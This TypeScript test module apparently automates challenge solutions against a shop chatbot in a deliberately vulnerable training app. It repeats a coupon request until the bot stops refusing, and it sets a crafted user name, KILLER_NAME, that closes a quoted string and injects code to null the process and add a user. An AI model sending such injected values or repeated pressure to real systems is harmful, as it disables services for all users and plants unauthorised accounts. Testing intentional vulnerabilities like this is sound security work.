import type { AttackTarget, Attacks } from '../../lib/attacks'
import { authorised, expectStatus, registerAndLogIn, type Session } from '../../testing/attack-steps'

/** How often the published attack asks for a coupon: the bot gives in after a few refusals. */
export const COUPON_REQUESTS = 10
/** A name that closes the bot's quoted string and overwrites what it needs to answer anyone. */
export const KILLER_NAME = 'admin"); process=null; users.addUser("1337", "test'

/** A fresh customer who has told the bot their name (the bot asks for it first). */
async function introduced(target: AttackTarget, name: string): Promise<Session> {
  const session = await registerAndLogIn(target)
  expectStatus(await authorised(target, session).post('/rest/chatbot/respond').send({ action: 'setname', query: name }), 200)
  return session
}

export const chatbotAttacks = {
  // keep asking until the bot hands out a coupon code
  bullyChatbotChallenge: async (target) => {
    const session = await introduced(target, 'Bully')
    for (let asked = 1; asked <= COUPON_REQUESTS; asked++) {
      const answer = expectStatus(await authorised(target, session).post('/rest/chatbot/respond').send({ query: 'Can I have a coupon code?' }), 200)
      if (/coupon code for you/.test(answer.body.body)) return answer
    }
    throw new Error(`no coupon after ${COUPON_REQUESTS} requests`)
  },
  // kills the bot for everyone, so it runs after the bully attack (the registry lists it last)
  killChatbotChallenge: async (target) => {
    const session = await introduced(target, KILLER_NAME)
    return authorised(target, session).post('/rest/chatbot/respond').send({ query: 'hello' })
  },
} satisfies Attacks
